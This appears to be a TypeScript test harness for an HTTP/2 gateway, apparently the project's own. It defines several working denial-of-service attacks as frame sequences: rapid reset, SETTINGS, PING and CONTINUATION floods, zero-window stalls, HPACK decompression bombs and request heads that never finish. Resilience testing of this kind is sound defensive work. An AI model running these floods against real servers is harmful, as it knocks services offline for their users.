// The frames of the HTTP/2 attacks. Each connection attacks until the gateway closes it or the attack ends. attacker.ts opens
// the connections and replaces closed ones.
import { once } from 'node:events';
import {
  errorCodes,
  fieldBlock,
  firstOfTable,
  flags,
  frame,
  type FrameClient,
  frameTypes,
  headers,
  indexedField,
  requestFields,
  resetStream,
  settingIds,
  settings,
  windowUpdate,
} from '../test/helpers/http2-frames.ts';

const STREAMS_AT_ONCE = 100;
// With 100 connections, 500 reads are in flight: fewer than IN_FLIGHT_MAX, so the gateway does not refuse good clients.
const READS_AT_ONCE = 5;
const ITEM = requestFields('GET', '/api/work-items/17');
const LIST = requestFields('GET', '/api/work-items');
const REFUSED = requestFields('GET', '/api/work-items/a');

const repeat = (bytes: Uint8Array, count: number): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));
const MANY_SETTINGS = repeat(settings([[settingIds.initialWindowSize, 65_535]]), 3_000);
const MANY_PINGS = repeat(frame(frameTypes.ping, 0, 0, Buffer.alloc(8)), 3_000);
const CONTINUATIONS = repeat(frame(frameTypes.continuation, 0, 1, fieldBlock([['x-a', 'x'.repeat(16_000)]])), 4);
const WHOLE = flags.endHeaders | flags.endStream;
const LARGE = Buffer.concat([fieldBlock(ITEM), indexedField('x-large', 'x'.repeat(4_000))]);
const STAYING = Buffer.concat([fieldBlock(requestFields('POST', '/api/work-items')), firstOfTable(76)]);
const BOMB = Buffer.concat([fieldBlock(ITEM), firstOfTable(16_000)]);

/** Called with the number of streams that have just been opened. */
type OnStreams = (count: number) => void;

export interface Http2Attack {
  /** The number of connections; default: 100. */
  connections?: number;
  /** The initial SETTINGS of the attack's connections. */
  settings?: (readonly [id: number, value: number])[];
  /** Attacks over connection number `index` until the connection is closed. */
  run: (client: FrameClient, onStreams: OnStreams, index: number) => Promise<void>;
}

export const HTTP2_ATTACKS: Readonly<Record<string, Http2Attack>> = {
  'rapid reset': {
    run: async (client, onStreams) => {
      for (let stream = 1; client.isOpen; stream += 2 * 50) {
        const pairs = Array.from({ length: 50 }, (_, at) => [
          headers(stream + 2 * at, ITEM),
          resetStream(stream + 2 * at, errorCodes.cancel),
        ]);
        onStreams(50);
        await client.sent(...pairs.flat());
      }
    },
  },
  // Each connection has 100 requests with an invalid item id. For each reply, the connection sends another request.
  'many streams': {
    run: (client, onStreams) => {
      client.send(windowUpdate(0, 2 ** 30));
      return keepStreams(client, STREAMS_AT_ONCE, () => REFUSED, onStreams);
    },
  },
  'SETTINGS flood': { run: (client) => flood(client, MANY_SETTINGS) },
  'PING flood': { run: (client) => flood(client, MANY_PINGS) },
  'CONTINUATION flood': {
    run: (client, onStreams) => {
      onStreams(1);
      client.send(headers(1, ITEM, flags.endStream));
      return flood(client, CONTINUATIONS);
    },
  },
  // Each connection has 100 streams and accepts no byte of a reply. On 25 connections, one of the replies has 4 MB.
  'zero windows': {
    settings: [[settingIds.initialWindowSize, 0]],
    run: (client, onStreams, index) =>
      keepStreams(client, READS_AT_ONCE, (stream) => (stream === 1 && index % 4 === 0 ? LIST : ITEM), onStreams),
  },
  // Heads of 16 KB that unpack to 64 MB.
  'HPACK bombs': {
    run: async (client, onStreams) => {
      for (let stream = 1; client.isOpen; stream += 2) {
        onStreams(1);
        await client.sent(frame(frameTypes.headers, WHOLE, stream, stream === 1 ? LARGE : BOMB));
      }
    },
  },
  // Each connection has 100 requests whose bodies never come. Most heads have 80 fields, compressed to 80 bytes.
  'heads that stay': {
    connections: 150,
    run: async (client, onStreams) => {
      onStreams(STREAMS_AT_ONCE);
      client.send(
        headers(1, [...requestFields('POST', '/api/work-items')], flags.endHeaders),
        frame(frameTypes.headers, WHOLE, 3, LARGE),
        ...Array.from({ length: STREAMS_AT_ONCE - 2 }, (_, at) =>
          frame(frameTypes.headers, flags.endHeaders, 5 + 2 * at, STAYING),
        ),
      );
      if (client.isOpen) await once(client.socket, 'close');
    },
  },
};

async function flood(client: FrameClient, bytes: Buffer): Promise<void> {
  while (client.isOpen) await client.sent(bytes);
}

/** Keeps up to 100 streams open. At most `waitingMax` of them wait for a reply head. */
async function keepStreams(
  client: FrameClient,
  waitingMax: number,
  request: (stream: number) => ReturnType<typeof requestFields>,
  onStreams: OnStreams,
): Promise<void> {
  const open = new Set<number>();
  const waiting = new Set<number>();
  let next = 1;
  let isDue = false;
  const fill = (): void => {
    isDue = false;
    const frames: Buffer[] = [];
    while (open.size < STREAMS_AT_ONCE && waiting.size < waitingMax) {
      open.add(next);
      waiting.add(next);
      frames.push(headers(next, request(next)));
      next += 2;
    }
    if (frames.length === 0 || !client.isOpen) return;
    onStreams(frames.length);
    client.send(...frames);
  };
  client.onFrame = ({ type, flags: frameFlags, stream }) => {
    const isReply = type === frameTypes.headers || type === frameTypes.data;
    const isOver = type === frameTypes.resetStream || (isReply && (frameFlags & flags.endStream) !== 0);
    if (isOver) open.delete(stream);
    if (isOver || isReply) waiting.delete(stream);
    // Calls `fill` only once for all frames that one read of the socket delivers.
    if (isDue) return;
    isDue = true;
    queueMicrotask(fill);
  };
  fill();
  if (client.isOpen) await once(client.socket, 'close');
}
